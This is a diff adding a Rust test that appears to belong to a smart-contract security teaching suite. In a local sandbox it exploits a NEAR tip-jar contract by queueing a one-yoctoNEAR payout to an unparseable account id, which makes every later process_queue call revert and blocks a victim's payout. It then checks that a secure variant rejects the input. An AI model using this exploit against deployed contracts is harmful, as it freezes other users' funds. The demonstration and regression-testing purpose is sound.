@@ -0,0 +1,62 @@
+//! One unparseable recipient bricks the payout queue behind it
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::NearToken;
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "account_id_validation",
+    description: "send_later to an invalid id makes every process_queue call revert",
+    must_succeed: || Box::pin(attack("account_id_validation")),
+    must_fail: || Box::pin(attack("account_id_validation_secure")),
+    rejection: "Failed to deserialize input from JSON",
+};
+
+const PAYOUT: NearToken = NearToken::from_near(5);
+/// No account can ever have this id: uppercase and spaces
+const INVALID_RECIPIENT: &str = "Not An Account!";
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let tip_jar = s
+        .deploy(contract, "tipjar", CONTRACT_BALANCE, json!({}))
+        .await?;
+    s.victim
+        .call(tip_jar.id(), "send_later")
+        .args_json(json!({ "recipient": s.owner.id() }))
+        .deposit(PAYOUT)
+        .transact()
+        .await?
+        .into_result()?;
+
+    // One yoctoNEAR buys a queue entry that can never be paid
+    s.attacker
+        .call(tip_jar.id(), "send_later")
+        .args_json(json!({ "recipient": INVALID_RECIPIENT }))
+        .deposit(NearToken::from_yoctonear(1))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let before = s.balance(s.owner.id()).await?;
+    for _ in 0..2 {
+        let processed = s
+            .attacker
+            .call(tip_jar.id(), "process_queue")
+            .args_json(json!({ "limit": 10 }))
+            .max_gas()
+            .transact()
+            .await?;
+        ensure!(processed.is_failure(), "the queue was processed");
+    }
+
+    let next_payout: u32 = tip_jar.view("get_next_payout").await?.json()?;
+    ensure!(next_payout == 0, "queue advanced to {next_payout}");
+    ensure!(
+        s.balance(s.owner.id()).await? <= before,
+        "the victim's payout arrived"
+    );
+    Ok(())
+}